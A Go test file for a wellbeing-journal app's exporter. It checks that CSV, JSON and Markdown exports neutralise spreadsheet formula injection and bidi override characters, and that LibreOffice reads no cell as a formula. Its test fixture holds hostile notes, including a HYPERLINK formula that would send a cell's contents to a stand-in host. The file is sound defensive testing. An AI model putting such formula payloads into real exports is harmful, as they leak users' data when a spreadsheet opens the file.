package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"jeda/internal/export"
	"jeda/internal/i18n"
	"jeda/internal/journal"
	"jeda/internal/realclient"
	"jeda/internal/score"
)

// hostile is WHO-5 results whose notes a spreadsheet would run as formulas, one whose
// note has a newline, and one with a right-to-left override.
func hostile(t *testing.T) []journal.HistoryEntry {
	notes := []string{
		`=HYPERLINK("http://example.invalid/?x="&A1;"klik di sini")`,
		"+1+1", "-2+3", "@SUM(1;1)", "\t=1+1", "\r=1+1",
		"baris satu\nbaris dua",
		"gaji \u202Ereveal\u202C selesai",
	}
	var out []journal.HistoryEntry
	for i, n := range notes {
		at := time.Date(2026, 11, 22, 8, i, 0, 0, wib)
		out = append(out, entry(t, "01a20ff1-0000-7000-8000-00000000010"+strconv.Itoa(i), "who5", at,
			score.Answers{"q1": 4, "q2": 3, "q3": 4, "q4": 2, "q5": 4}, nil, n))
	}
	return out
}

func csvRows(t *testing.T, data []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf"))))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Item 1: no note becomes a formula (the OWASP rule), in both CSV forms.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for _, o := range []export.Options{{Lang: i18n.EN}, {Lang: i18n.ID, Spreadsheet: true}} {
		comma := ','
		if o.Spreadsheet {
			comma = ';'
		}
		rows := csvRows(t, write(t, export.CSV, hostile(t), o), comma)
		for _, row := range rows[1:] {
			note := row[8]
			if note == "" {
				t.Fatalf("no note: %q", row)
			}
			if strings.ContainsRune("=+-@\t\r", rune(note[0])) {
				t.Errorf("spreadsheet=%t: the note %q starts a formula", o.Spreadsheet, note)
			}
		}
	}
	if got := export.CSVCell("=1+1"); got != "'=1+1" {
		t.Errorf("CSVCell: %q", got)
	}
	if got := export.CSVCell("lega"); got != "lega" {
		t.Errorf("CSVCell changed a plain note: %q", got)
	}
}

// Item 3: a newline inside a note stays LF; each record still ends in CRLF.
func TestCSVKeepsNewlinesInNotes(t *testing.T) {
	t.Parallel()
	data := write(t, export.CSV, hostile(t), export.Options{Lang: i18n.EN})
	if !bytes.Contains(data, []byte("\"baris satu\nbaris dua\"")) {
		t.Errorf("the note's newline changed:\n%q", data)
	}
	if bytes.Contains(data, []byte("satu\r\n")) {
		t.Errorf("CRLF inside a note:\n%q", data)
	}
	lines := bytes.Count(data, []byte("\r\n"))
	if lines != len(hostile(t))+1 {
		t.Errorf("%d CRLF record ends, want %d", lines, len(hostile(t))+1)
	}
	var jl bytes.Buffer
	if err := export.Write(&jl, export.JSONL, hostile(t), export.Options{Lang: i18n.EN}); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(jl.Bytes(), []byte(`baris satu\nbaris dua`)) {
		t.Errorf("JSONL: %s", jl.Bytes())
	}
}

// Item 15: bidi controls are neutralised in every export: shown as text in CSV and
// Markdown, escaped in JSON and JSONL (which read back to the same note).
func TestExportsNeutraliseBidiControls(t *testing.T) {
	t.Parallel()
	entries := hostile(t)
	for _, f := range export.Formats {
		data := write(t, f, entries, export.Options{Lang: i18n.EN, ExportedAt: exported})
		if bytes.ContainsRune(data, '\u202E') || bytes.ContainsRune(data, '\u202C') {
			t.Errorf("%s holds a raw bidi control", f)
		}
		switch f {
		case export.JSON, export.JSONL:
			if !bytes.Contains(data, []byte(`gaji \u202ereveal\u202c selesai`)) {
				t.Errorf("%s: no escaped note:\n%s", f, data)
			}
		default:
			if !bytes.Contains(data, []byte("gaji [U+202E]reveal[U+202C] selesai")) && !bytes.Contains(data, []byte(`gaji \[U+202E\]reveal\[U+202C\] selesai`)) {
				t.Errorf("%s: the note is not shown as typed:\n%s", f, data)
			}
		}
	}
	// JSON still reads back to the note as saved.
	data := write(t, export.JSONL, entries[len(entries)-1:], export.Options{Lang: i18n.EN})
	var r struct{ Note string }
	if err := json.Unmarshal(data, &r); err != nil || r.Note != "gaji \u202Ereveal\u202C selesai" {
		t.Errorf("JSONL note %q, %v", r.Note, err)
	}
}

// Item 2: the spreadsheet form has a BOM, ";" and decimal commas; the plain form stays
// RFC 4180 with decimal points.
func TestCSVSpreadsheetForm(t *testing.T) {
	t.Parallel()
	entries := sample(t)
	data := write(t, export.CSV, entries, export.Options{Lang: i18n.ID, Spreadsheet: true, Items: []string{"q1"}})
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbfid;instrument;")) {
		t.Errorf("no BOM and ;:\n%q", data[:40])
	}
	if !bytes.Contains(data, []byte(";work;42,9;below-high;")) {
		t.Errorf("no decimal comma:\n%s", data)
	}
	plain := write(t, export.CSV, entries, export.Options{Lang: i18n.ID})
	if bytes.HasPrefix(plain, []byte("\xef\xbb\xbf")) || !bytes.Contains(plain, []byte(",work,42.9,below-high,")) {
		t.Errorf("plain CSV changed:\n%s", plain)
	}
}

// cell is a cell of a LibreOffice flat ODS file.
type cell struct {
	Type    string   `xml:"value-type,attr"`
	Value   string   `xml:"value,attr"`
	Formula string   `xml:"formula,attr"`
	Repeat  int      `xml:"number-columns-repeated,attr"`
	Text    []string `xml:"p"`
}

// fodsRows reads the first sheet of a flat ODS file.
func fodsRows(t *testing.T, path string) [][]cell {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	dec := xml.NewDecoder(f)
	var rows [][]cell
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		se, ok := tok.(xml.StartElement)
		if !ok || se.Name.Local != "table-row" {
			continue
		}
		var row struct {
			Cells []cell `xml:"table-cell"`
		}
		if err := dec.DecodeElement(&row, &se); err != nil {
			t.Fatal(err)
		}
		var cells []cell
		for _, c := range row.Cells {
			for n := max(c.Repeat, 1); n > 0 && len(cells) < 64; n-- {
				cells = append(cells, c)
			}
		}
		rows = append(rows, cells)
	}
	return rows
}

// Items 1 and 2 in LibreOffice Calc: the spreadsheet form, opened with the Indonesian
// locale, has every score and answer as a number and every note as text; the plain form
// opened with the US locale too. No cell is a formula.
func TestCSVInLibreOffice(t *testing.T) {
	t.Parallel()
	realclient.Soffice(t)
	in := builtin(t, "who5")
	var items []string
	for _, it := range in.Items {
		items = append(items, it.ID)
	}
	entries := append(hostile(t), sample(t)...)
	dir := t.TempDir()
	for _, c := range []struct {
		name  string
		o     export.Options
		comma rune
		lcid  int
	}{
		{"spreadsheet-id.csv", export.Options{Lang: i18n.ID, Spreadsheet: true, Items: items}, ';', 1057},
		{"plain-en.csv", export.Options{Lang: i18n.EN, Items: items}, ',', 1033},
	} {
		p := filepath.Join(dir, c.name)
		data := write(t, export.CSV, entries, c.o)
		if err := os.WriteFile(p, data, 0o600); err != nil {
			t.Fatal(err)
		}
		want := csvRows(t, data, c.comma)
		got := fodsRows(t, realclient.ConvertCSV(t, p, c.comma, c.lcid))
		if len(got) < len(want) {
			t.Fatalf("%s: %d rows in Calc, %d in the file", c.name, len(got), len(want))
		}
		header := want[0]
		for i, row := range want[1:] {
			cells := got[i+1]
			for j, v := range row {
				if j >= len(cells) {
					t.Fatalf("%s row %d: %d cells", c.name, i+1, len(cells))
				}
				cl := cells[j]
				if cl.Formula != "" {
					t.Errorf("%s row %d %s: a formula %q", c.name, i+1, header[j], cl.Formula)
				}
				col := header[j]
				isNum := col == "score" || col == "instrument_version" || strings.HasPrefix(col, "answer_")
				switch {
				case v == "":
				case isNum && cl.Type != "float":
					t.Errorf("%s row %d %s: %q is a %s, not a number", c.name, i+1, col, v, cl.Type)
				case isNum:
					if w := strings.Replace(v, ",", ".", 1); cl.Value != w {
						t.Errorf("%s row %d %s: %s, want %s", c.name, i+1, col, cl.Value, w)
					}
				case col == "note" && cl.Type != "string":
					t.Errorf("%s row %d note %q: a %s", c.name, i+1, v, cl.Type)
				}
			}
		}
	}
}
